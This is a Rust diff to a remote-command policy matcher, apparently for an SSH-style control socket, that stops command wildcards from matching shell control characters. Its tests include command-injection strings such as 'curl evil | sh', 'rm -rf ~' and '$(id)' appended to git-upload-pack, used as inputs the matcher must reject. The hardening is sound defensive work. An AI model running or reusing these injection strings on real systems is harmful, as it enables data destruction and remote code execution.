@@ -557,10 +557,17 @@ enum Syntax {
     /// `**` crosses `/`, so "/usr/bin/*" means the programs in /usr/bin and
     /// not also everything in its subdirectories.
     Path,
-    /// Remote commands and subsystem names: `*` matches anything, spaces and
-    /// slashes included, since arguments are arbitrary text.
+    /// Remote commands and subsystem names: `*` matches any arguments,
+    /// spaces and slashes included, but neither `*` nor `?` matches one of
+    /// [`SHELL_CONTROL`]. The remote shell runs the command line, so
+    /// "git-upload-pack *" must not also mean "git-upload-pack x; rm -rf ~".
+    /// A pattern may still name such a character literally.
     Command,
 }
+
+/// What a remote shell treats as more than an argument: command separators,
+/// pipes, background jobs, substitutions, redirections, subshells.
+pub const SHELL_CONTROL: &[char] = &[';', '&', '|', '$', '`', '<', '>', '(', ')', '\n', '\r'];
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Token {
@@ -611,6 +618,11 @@ impl Glob {
     fn matches(&self, text: &str) -> bool {
         let text: Vec<char> = text.chars().collect();
         let path = self.syntax == Syntax::Path;
+        // What a wildcard may stand for.
+        let wild = |t: char| match self.syntax {
+            Syntax::Command => !SHELL_CONTROL.contains(&t),
+            _ => true,
+        };
         let same = |p: char, t: char| {
             if self.syntax == Syntax::Host {
                 p.eq_ignore_ascii_case(&t)
@@ -634,14 +646,18 @@ impl Glob {
                 Token::One => {
                     next[0] = false;
                     for (i, &t) in text.iter().enumerate() {
-                        next[i + 1] = reach[i] && !(path && t == '/');
+                        next[i + 1] = reach[i] && !(path && t == '/') && wild(t);
                     }
                 }
                 Token::Star | Token::DeepStar => {
                     let crosses = !path || *token == Token::DeepStar;
                     let mut open = false;
                     for i in 0..=text.len() {
-                        open = reach[i] || (open && i > 0 && (crosses || text[i - 1] != '/'));
+                        open = reach[i]
+                            || (open
+                                && i > 0
+                                && (crosses || text[i - 1] != '/')
+                                && wild(text[i - 1]));
                         next[i] = open;
                     }
                 }
@@ -1149,6 +1165,13 @@ fn merge<T>(system: Option<T>, user: Option<T>, stricter: fn(T, T) -> T, builtin
 impl PolicySet {
     fn files(&self) -> impl Iterator<Item = &Policy> {
         self.system.iter().chain(self.user.iter())
+    }
+
+    /// Whether some rule, in either file, names `peers`: only then can
+    /// another uid ever be admitted, so only then does the control socket
+    /// need to be reachable by others.
+    pub fn admits_any_peer(&self) -> bool {
+        self.files().any(Policy::lists_peers)
     }
 
     /// The settings in force when there is no policy file at all.
@@ -1933,6 +1956,32 @@ mod tests {
     }
 
     #[test]
+    fn command_wildcards_never_stand_for_shell_control_characters() {
+        let c = Syntax::Command;
+        for evil in [
+            "git-upload-pack 'x'; rm -rf ~",
+            "git-upload-pack x && curl evil | sh",
+            "git-upload-pack $(id)",
+            "git-upload-pack `id`",
+            "git-upload-pack x > ~/.bashrc",
+            "git-upload-pack x\nid",
+            "git-upload-pack (id)",
+        ] {
+            assert!(!glob("git-upload-pack *", c, evil), "{evil:?}");
+            assert!(!glob("git-upload-pack ?*", c, evil), "{evil:?}");
+        }
+        assert!(!glob("rsync --server *", c, "rsync --server . x;id"));
+        // A control character the pattern names itself is matched literally.
+        assert!(glob("make && make *", c, "make && make install"));
+        assert!(!glob("make && make *", c, "make && make x; id"));
+        // Quotes, globs and spaces stay ordinary argument text.
+        assert!(glob("git-upload-pack *", c, "git-upload-pack '~/a b*.git'"));
+        // Other kinds of pattern are not affected.
+        assert!(glob("/usr/bin/*", Syntax::Path, "/usr/bin/a;b"));
+        assert!(glob("build-*", Syntax::Host, "build-$"));
+    }
+
+    #[test]
     fn command_globs_match_anything() {
         let c = Syntax::Command;
         assert!(glob(
@@ -2440,6 +2489,8 @@ action = "ask"
             set2.admits_peer(0, Some("root"), &[0], NO_GROUPS, 1000),
             "root by uid"
         );
+        assert!(set.admits_any_peer() && set2.admits_any_peer());
+        assert!(!PolicySet::default().admits_any_peer());
 
         assert!(
             !PolicySet::default().admits_peer(0, Some("root"), &[0], NO_GROUPS, 1000),
@@ -3018,12 +3069,37 @@ audit_log = "/tmp/mine.jsonl"
                 .action,
             Action::Deny
         );
+        // Another user's program is never known to the master; the rule is
+        // about the remote command instead.
         let unknown = Request {
             peer: dev,
             program: None,
             ..req("build-3")
         };
-        assert_eq!(sys_only.decide(&unknown).action, Action::Deny);
+        assert_eq!(sys_only.decide(&unknown).action, Action::Allow);
+        let peer_runs = |command| {
+            sys_only
+                .decide(&Request {
+                    command: Some(command),
+                    ..unknown
+                })
+                .action
+        };
+        assert_eq!(
+            peer_runs("rsync --server -logDtpre.iLsfxC . /srv/out"),
+            Action::Allow
+        );
+        assert_eq!(
+            peer_runs("git-upload-pack '/srv/app.git'; id"),
+            Action::Deny
+        );
+        assert_eq!(peer_runs("id"), Action::Deny);
+        let peer_shell = Request {
+            kind: RequestKind::Shell,
+            command: None,
+            ..unknown
+        };
+        assert_eq!(sys_only.decide(&peer_shell).action, Action::Deny);
         let pay = Request {
             kind: RequestKind::StdioForward,
             command: Some("db:5432"),
